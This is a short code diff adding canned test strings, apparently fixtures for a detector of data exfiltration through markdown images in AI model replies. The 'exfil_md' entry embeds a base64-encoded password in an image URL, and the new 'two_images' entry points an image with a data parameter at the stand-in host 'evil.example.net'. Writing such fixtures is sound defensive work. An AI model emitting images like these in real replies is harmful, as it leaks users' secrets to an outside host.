@@ -105,6 +105,11 @@ export const CANNED = {
   exfil_md:
     'Here is the summary you asked for.\n\n' +
     `![loading](${SECRETS.exfil_url_prefix}VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIy)\n`,
+  // Two images, one on a host a key may allow and one on a host nobody
+  // allows, with a data parameter: what an exfiltration reads like.
+  two_images:
+    'Chart: ![sales](https://images.example.com/c.png?q=1) and ' +
+    '![x](https://evil.example.net/p.png?d=abc) end',
 };
 
 // Tool-call argument strings (JSON text, as OpenAI sends them).
